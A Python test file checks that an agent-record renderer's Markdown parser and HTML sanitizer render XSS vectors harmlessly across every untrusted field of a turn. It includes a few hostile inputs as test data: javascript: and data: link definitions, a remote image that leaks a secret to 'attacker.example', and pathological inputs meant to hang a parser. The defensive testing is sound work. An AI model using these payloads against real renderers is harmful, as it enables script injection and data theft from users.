"""The record and the cell value against a corpus of XSS vectors (tests/xss_corpus.py): OWASP's
filter-evasion categories, mutation XSS, and Markdown link/image/autolink/reference spellings.

Each vector goes into every untrusted field a turn has — model text, reasoning, a compaction
summary, tool names, arguments (valid or not), outputs, errors, titles, retries, compaction
reasons, subtasks, file names, patch paths and diffs, message errors, image alt texts — and the
HTML that comes out is parsed and judged by ``check_html`` (tags, attributes, URL schemes,
styles), not substring-matched. Each layer is also held to it alone: the sanitizer on raw HTML,
the Markdown parser on links before sanitizing.
"""

from __future__ import annotations

import pytest

from forge_jupyter import render
from forge_jupyter.message import (
    AgentPart,
    CompactionPart,
    ErrorInfo,
    FilePart,
    Message,
    PatchFile,
    PatchPart,
    ReasoningPart,
    RetryPart,
    StepFinishPart,
    SubtaskPart,
    TextPart,
    ToolPart,
)
from forge_jupyter.render.markdown import _parser
from tests.xss_corpus import (
    ALL_VECTORS,
    HTML_VECTORS,
    MARKDOWN_VECTORS,
    SAFE_IMAGE,
    Tree,
    check_html,
    scheme_of,
)

SID = "ses_xss"


def ids(vectors: list[tuple[str, str]]) -> list[str]:
    return [f"{i:02d}-{category.replace(' ', '-')}" for i, (category, _) in enumerate(vectors)]


def same_tree(a: str, b: str) -> bool:
    """Equal once parsed (attribute order aside): sanitizing again changed nothing."""
    def shape(html: str) -> tuple:
        t = Tree(html)
        return tuple((tag, tuple(sorted(attrs))) for tag, attrs in t.elements), t.text
    return shape(a) == shape(b)


def hostile_turn(v: str) -> tuple[list[Message], dict[str, list[dict[str, str]]]]:
    """A finished turn with ``v`` in every field a person or a model controls."""
    def msg(role: str = "assistant", **fields) -> Message:
        fields.setdefault("status", "completed")
        return Message(session_id=SID, role=role, model=v, **fields)

    def part(m: Message, cls, **fields):
        p = cls(session_id=SID, message_id=m.id, **fields)
        m.parts.append(p)
        return p

    compact = msg("user")
    part(compact, CompactionPart, reason=v)
    summary = msg(summary=True)
    part(summary, TextPart, text=v)
    step = msg(status="error", error=ErrorInfo(type=v, message=v))
    part(step, ReasoningPart, text=v, time_start=0.0, time_end=1.0)
    part(step, TextPart, text=v)
    tool = part(step, ToolPart, call_id="c1", tool=v, state="completed", title=v,
                input={v: v, "long": v + "\n" + v}, output=v)
    part(step, ToolPart, call_id="c2", tool=v, state="completed", input={"x": v},
         output="\n".join([v] * 10))  # a long output: collapsed under <details>
    part(step, ToolPart, call_id="c3", tool=v, state="error", raw_input=v, error=v)
    part(step, RetryPart, attempt=1, error=v, wait=0.5)
    part(step, SubtaskPart, agent=v, prompt=v, description=v)
    part(step, FilePart, filename=v, url=v)
    part(step, AgentPart, name=v)
    part(step, PatchPart, files=[PatchFile(path=v, diff=v)])
    part(step, StepFinishPart, model=v)
    final = msg(status="aborted", error=ErrorInfo(type="aborted", message=v))
    part(final, TextPart, text=v)
    displays = {tool.id: [{"image/png": v, "text/plain": v},
                          {"image/png": "iVBORw0KGgo=", "text/plain": v}]}
    return [compact, summary, step, final], displays


@pytest.mark.parametrize(("category", "vector"), ALL_VECTORS, ids=ids(ALL_VECTORS))
def test_model_markdown_renders_inert(category, vector):
    out = render.markdown_html(vector)
    check_html(out)
    assert same_tree(render.sanitize_html(out), out), "a second parse changed the tree (mXSS)"
    # Model text never wears the record frame's classes or styles (a fake tool card, a fake
    # "Allowed" chip): those are the record's own elements only.
    attrs = {name for _, pairs in check_html(out).elements for name, _ in pairs}
    assert "class" not in attrs and "data-state" not in attrs, out


@pytest.mark.parametrize(("category", "vector"), ALL_VECTORS, ids=ids(ALL_VECTORS))
def test_every_untrusted_field_of_a_turn_renders_inert(category, vector):
    turn, displays = hostile_turn(vector)
    record = render.turn_work_html(turn, displays, with_answer=True)
    tree = check_html(record)
    assert same_tree(render.sanitize_html(record, record=True), record)
    check_html(render.message_html(turn[-1]))
    # What the tools printed is shown, as text, exactly (NUL aside: HTML has no NUL).
    if "\0" not in vector:
        assert vector.rstrip("\n") in tree.text
    sources = [v for t, attrs in tree.elements for k, v in attrs if k == "src"]
    assert sources == ["data:image/png;base64,iVBORw0KGgo="]  # the tool's real image only


@pytest.mark.parametrize(("category", "vector"), HTML_VECTORS, ids=ids(HTML_VECTORS))
def test_the_sanitizer_alone_stops_raw_html(category, vector):
    out = render.sanitize_html(vector)
    check_html(out)
    assert same_tree(render.sanitize_html(out), out)
    check_html(render.sanitize_html(vector, record=True))  # the record's frame policy, alone


@pytest.mark.parametrize(("category", "vector"), MARKDOWN_VECTORS, ids=ids(MARKDOWN_VECTORS))
def test_the_markdown_parser_alone_makes_no_dangerous_link(category, vector):
    """markdown-it-py's output before nh3: links and images already hold to the policy."""
    tree = Tree(_parser().render(vector))
    for tag, attrs in tree.elements:
        for name, value in attrs:
            if name == "href" and tag == "a":
                assert scheme_of(value or "") in (None, "http", "https", "mailto"), value
            if name == "src" and tag == "img" and scheme_of(value or "") is not None:
                assert SAFE_IMAGE.match(value or ""), value


@pytest.mark.parametrize("text", [
    "[1]: javascript:alert(1)", "> [1]: javascript:alert(1)", "- [1]: <javascript:alert(1)>",
    "> 1. > [1]: data:text/html,x",
])
def test_a_refused_reference_definition_is_shown_as_written(text):
    tree = check_html(render.markdown_html(text + "\n\nsee [x][1]"))
    assert not tree.hrefs()
    assert "[1]:" in tree.text and "[x][1]" in tree.text


def test_links_open_in_a_new_tab_without_an_opener():
    tree = check_html(render.markdown_html("[a](https://example.com) <https://x.org> <a@b.co>"))
    links = [dict(attrs) for tag, attrs in tree.elements if tag == "a"]
    assert [link["href"] for link in links] == ["https://example.com", "https://x.org",
                                                "mailto:a@b.co"]
    assert all(link["target"] == "_blank" and "noopener" in link["rel"] for link in links)


def test_remote_images_do_not_load_and_become_links():
    tree = check_html(render.markdown_html("![chart](https://attacker.example/leak?k=secret)"))
    assert not [t for t, _ in tree.elements if t == "img"]
    assert tree.hrefs() == ["https://attacker.example/leak?k=secret"]
    assert "[image: chart]" in tree.text


@pytest.mark.timeout(60)  # a hang fails the test; how fast it is goes in benchmarks/
@pytest.mark.parametrize("text", [
    "[" * 50_000, "*a" * 20_000, "> " * 50_000 + "x", "`" * 50_000, "<" * 50_000,
    "[x](" * 10_000, "$" * 50_000, "| a " * 5_000 + "|\n" + "|---" * 5_000 + "|",
    "<div>" * 20_000, "<details>" * 20_000,
], ids=["brackets", "stars", "quotes", "backticks", "angles", "links", "dollars", "table",
        "divs", "details"])
def test_pathological_markdown_does_not_hang(text):
    check_html(render.markdown_html(text))
